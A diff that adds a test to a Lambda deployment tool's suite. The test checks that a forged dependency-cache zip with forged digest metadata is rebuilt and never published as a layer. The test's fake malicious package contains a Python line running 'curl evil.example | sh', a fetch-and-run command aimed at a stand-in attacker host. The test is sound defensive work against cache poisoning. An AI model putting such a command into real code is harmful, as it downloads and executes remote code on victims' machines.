@@ -322,6 +322,81 @@ cache(
   },
 );
 
+cache(
+  'a forged cache object with forged metadata is never published; a cached zip a published layer version records is reused',
+  async () => {
+    await AwsWorld.with(async (world) => {
+      await seedFunctions(world, [...QA_FUNCTIONS, { name: 'gamma', alias: 'qa' }]);
+      const extra = '    layerName: "gamma-${env}-deps"\n';
+      const first = await deploy(world, (await deployRepo({ deps: true, extra })).dir, ['gamma']);
+      assert.is(first.code, 0, first.stderr);
+      const [cacheKey] = await world.s3.keys('lambda-ci/_lci/deps/qa/gamma/');
+      const depsKey = cacheKey!.split('/').at(-1)!.slice(0, -4);
+      const genuine = world.lambda.layerVersions('gamma-qa-deps')[0]!;
+      assert.match(genuine.Description!, new RegExp(`^lci deps ${depsKey} zip [A-Za-z0-9+/]{43}= from `));
+      const sdk = new LambdaClient({ region: 'eu-west-1', endpoint: world.lambda.endpoint, credentials: CREDENTIALS });
+
+      /** Deps moved on and back (another key is the newest version) and the alias serves a version without the layer: the next deploy publishes. */
+      const publishAgainNext = async () => {
+        await sdk.send(
+          new PublishLayerVersionCommand({
+            LayerName: 'gamma-qa-deps',
+            Description: `lci deps ${'b'.repeat(32)} from other`,
+            Content: { S3Bucket: world.s3.bucket, S3Key: cacheKey! },
+          }),
+        );
+        await sdk.send(new UpdateFunctionConfigurationCommand({ FunctionName: 'gamma', Layers: [] }));
+        const bare = await sdk.send(new PublishVersionCommand({ FunctionName: 'gamma' }));
+        await sdk.send(new UpdateAliasCommand({ FunctionName: 'gamma', Name: 'qa', FunctionVersion: bare.Version! }));
+      };
+      const freshDeploy = async (change: string) => {
+        const clone = await deployRepo({ deps: true, extra });
+        clone.commit({ 'svc/gamma/app.py': `import acme  # ${change}\n` });
+        const t0 = Date.now();
+        const r = await deploy(world, clone.dir, ['gamma']);
+        assert.is(r.code, 0, r.stderr);
+        return { r, built: await containersCreated(clone.dir, t0, Date.now()) };
+      };
+
+      // The genuine cache object: a published version records its digest, so it is reused, not built.
+      await publishAgainNext();
+      const reused = await freshDeploy('v2');
+      assert.is(reused.built, 0, 'the recorded zip was reused');
+      assert.is(world.lambda.layerVersions('gamma-qa-deps').at(-1)!.Content!.CodeSha256, genuine.Content!.CodeSha256);
+
+      // Someone who may write the cache replaces it, metadata and all: the digest it claims is its own.
+      const evil = join(tempDir(), 'evil.zip');
+      const data = Buffer.from('import os\nos.system("curl evil.example | sh")\n');
+      await writeZip(
+        [{ name: 'python/acme/__init__.py', source: { data }, size: data.length, executable: false }],
+        evil,
+      );
+      const bytes = readFileSync(evil);
+      const sha = createHash('sha256').update(bytes).digest('base64');
+      await world.s3.client.send(
+        new PutObjectCommand({
+          Bucket: world.s3.bucket,
+          Key: cacheKey!,
+          Body: bytes,
+          Metadata: { 'lci-zip-sha256': sha, 'lci-unzipped-bytes': '1', 'lci-deps-key': depsKey },
+        }),
+      );
+      await publishAgainNext();
+      const forged = await freshDeploy('v3');
+      assert.is(forged.built, 1, 'no published version records the forged digest: the layer was built again');
+      const published = world.lambda.layerVersions('gamma-qa-deps').at(-1)!;
+      assert.is.not(published.Content!.CodeSha256, sha, 'the forged zip was never published');
+      assert.ok(
+        world.lambda
+          .layerVersions('gamma-qa-deps')
+          .every((l) => l.Content!.CodeSha256 !== sha || l.Description!.includes(' from other')),
+        'only the stand-in version the test itself published holds the forged bytes',
+      );
+      assert.ok(published.Description!.includes(` zip ${published.Content!.CodeSha256} from `), published.Description);
+    });
+  },
+);
+
 dirty.run();
 keys.run();
 live.run();
